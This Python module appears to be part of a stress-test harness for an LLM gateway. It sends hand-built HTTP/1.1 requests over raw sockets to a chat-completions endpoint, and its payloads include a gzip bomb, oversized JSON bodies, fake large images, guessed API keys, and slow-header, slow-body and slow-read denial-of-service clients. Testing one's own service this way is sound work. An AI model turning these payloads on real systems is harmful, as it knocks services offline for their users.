"""Attacks over HTTP/1.1, written on sockets: no client library sends what these send."""

from __future__ import annotations

import asyncio
import base64
import gzip
import json
import socket
import ssl
from collections.abc import Iterable
from typing import ClassVar

from hostile.attacks import CUT
from hostile.job import Target
from penstock_gateway.domain.access.identity import new_key

MIB = 1024 * 1024
CHAT = "/v1/chat/completions"
TYPED_CHAT = "/api/v1/chat"
_DRIP_SECONDS = 0.5
_DEADLINE = "x-penstock-timeout: 10s\r\n"


def tls_context(target: Target) -> ssl.SSLContext | None:
    """Return what proves the edge; None where it speaks plain."""
    return ssl.create_default_context(cafile=target.ca) if target.ca else None


def chat_body(model: str, messages: bytes = b'[{"role":"user","content":"Hi"}]', more: bytes = b"") -> bytes:
    """Return a body of OpenAI's chat completions."""
    return b'{"model":"%b","messages":%b%b}' % (model.encode(), messages, more)


def repeated(item: bytes, size_bytes: int) -> bytes:
    """Return an array of so many bytes, all of one item."""
    return b"[" + b",".join([item] * (size_bytes // (len(item) + 1))) + b"]"


class Posts:
    """Sends one body again and again, each time over a new connection."""

    path: ClassVar[str] = CHAT
    holds_on: ClassVar[bool] = False
    headers: ClassVar[str] = ""

    def __init__(self, target: Target, model: str) -> None:
        self._host, _, port = target.http.rpartition(":")
        self._port = int(port)
        self._body = self.make(model)

    def make(self, model: str) -> bytes:
        """Return the body."""
        return chat_body(model)

    async def strike(self, key: str) -> Iterable[str]:
        """Send the body; return the status."""
        return (await self.exchange(self.head(key, len(self._body)), self._body),)

    async def aclose(self) -> None:
        """Hold nothing."""

    def head(self, key: str, length: int) -> bytes:
        """Return a request's head."""
        proof = f"authorization: Bearer {key}\r\n" if key else ""
        return (
            f"POST {self.path} HTTP/1.1\r\nhost: {self._host}\r\n{proof}{self.headers}"
            f"content-type: application/json\r\ncontent-length: {length}\r\n\r\n"
        ).encode()

    async def connect(self) -> tuple[asyncio.StreamReader, asyncio.StreamWriter]:
        """Return a new connection."""
        return await asyncio.open_connection(self._host, self._port)

    async def exchange(self, head: bytes, body: bytes) -> str:
        """Send, and return the status, which may come before all is sent."""
        try:
            reader, writer = await self.connect()
        except OSError:
            return CUT
        writer.write(head)
        writer.write(body)
        try:
            return await self.status(reader)
        finally:
            writer.transport.abort()

    async def status(self, reader: asyncio.StreamReader) -> str:
        """Return the status of the next answer."""
        try:
            line = await reader.readline()
        except OSError:
            return CUT
        return line.split(b" ")[1].decode() if line.startswith(b"HTTP/1.1 ") else CUT


class TinyTurns(Posts):
    def make(self, model: str) -> bytes:
        return chat_body(model, repeated(b'{"role":"user","content":""}', 32 * MIB - 100))


class UnknownMembers(Posts):
    def make(self, model: str) -> bytes:
        return chat_body(model, more=b"," + b",".join(b'"n%d":1' % number for number in range(27 * MIB // 12)))


class GoingOn(Posts):
    def make(self, model: str) -> bytes:
        return chat_body(model, b'[{"role":"user","content":"%b"}]' % (b"a" * 8 * MIB))


class GzipBomb(Posts):
    headers = "content-encoding: gzip\r\n"

    def make(self, model: str) -> bytes:
        # A gibibyte in members of a mebibyte, each a kilobyte.
        return gzip.compress(b" " * MIB, 9) * 1024


class GzipOfElements(Posts):
    headers = "content-encoding: gzip\r\n"

    def make(self, model: str) -> bytes:
        return gzip.compress(chat_body(model, repeated(b"{}", 31 * MIB)), 1)


class LargeImage(Posts):
    """A valid picture, as far as anybody here looks."""

    def make(self, model: str) -> bytes:
        data = base64.b64encode(b"\x89PNG\r\n\x1a\n" + bytes(22 * MIB)).decode()
        part = {"type": "image_url", "image_url": {"url": f"data:image/png;base64,{data}"}}
        return chat_body(model, json.dumps([{"role": "user", "content": [part]}]).encode())


class UnknownModel(Posts):
    _serial = 0

    async def strike(self, key: str) -> Iterable[str]:
        self._serial += 1
        body = chat_body(f"model-{self._serial}-{id(self)}")
        return (await self.exchange(self.head(key, len(body)), body),)


class Guess(Posts):
    """A key with a right checksum, which nobody has."""

    async def strike(self, key: str) -> Iterable[str]:
        return (await self.exchange(self.head(new_key()[0], len(self._body)), self._body),)


class TypedArray(Posts):
    path = TYPED_CHAT

    def make(self, model: str) -> bytes:
        return b'{"input":{"model":"%b","messages":%b}}' % (model.encode(), repeated(b"{}", 16 * MIB))


class SlowHead(Posts):
    """A byte of the head, now and then."""

    holds_on = True

    async def strike(self, key: str) -> Iterable[str]:
        return (await self.dripped(b"GET / HTTP/1.1\r\nx: ", key),)

    async def dripped(self, beginning: bytes, key: str) -> str:
        """Send a beginning, and then bytes without end; return what came of it."""
        try:
            reader, writer = await self.connect()
        except OSError:
            return CUT
        writer.write(beginning)
        dripping = asyncio.ensure_future(_drip(writer))
        try:
            return await self.status(reader)
        finally:
            dripping.cancel()
            writer.transport.abort()


async def _drip(writer: asyncio.StreamWriter) -> None:
    while True:
        await asyncio.sleep(_DRIP_SECONDS)
        writer.write(b"a")


class SlowBody(SlowHead):
    """The same with a body of 30 MiB to come."""

    async def strike(self, key: str) -> Iterable[str]:
        return (await self.dripped(self.head(key, 30 * MIB) + b'{"model":"', key),)


class Deaf(Posts):
    """Asks for 1 MB, as much as the longest answers are, and reads none of it."""

    holds_on = True
    headers = _DEADLINE

    def make(self, model: str) -> bytes:
        return chat_body(model, b'[{"role":"user","content":"VAST"}]', b',"stream":true')

    async def connect(self) -> tuple[asyncio.StreamReader, asyncio.StreamWriter]:
        """Return a connection that takes as little as there can be."""
        connection = socket.socket()
        connection.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 1)
        connection.setblocking(False)
        await asyncio.get_running_loop().sock_connect(connection, (self._host, self._port))
        return await asyncio.open_connection(sock=connection, limit=1024)

    async def strike(self, key: str) -> Iterable[str]:
        """Ask; see the beginning, which is no more than the buffers hold, and then wait for the end of the connection."""
        try:
            reader, writer = await self.connect()
        except OSError:
            return (CUT,)
        try:
            writer.write(self.head(key, len(self._body)) + self._body)
            status = await self.status(reader)
            if status != "200":
                return (status,)
            writer.transport.pause_reading()  # type: ignore[attr-defined]
            # What is cut shows when something is written.
            while not writer.is_closing():
                await asyncio.sleep(_DRIP_SECONDS)
                writer.write(b" ")
            return (CUT,)
        finally:
            writer.transport.abort()


WEAPONS = {
    "tiny_turns": TinyTurns,
    "unknown_members": UnknownMembers,
    "going_on": GoingOn,
    "gzip_bomb": GzipBomb,
    "gzip_of_elements": GzipOfElements,
    "image": LargeImage,
    "unknown_model": UnknownModel,
    "guess": Guess,
    "typed_array": TypedArray,
    "slow_head": SlowHead,
    "slow_body": SlowBody,
    "deaf": Deaf,
}
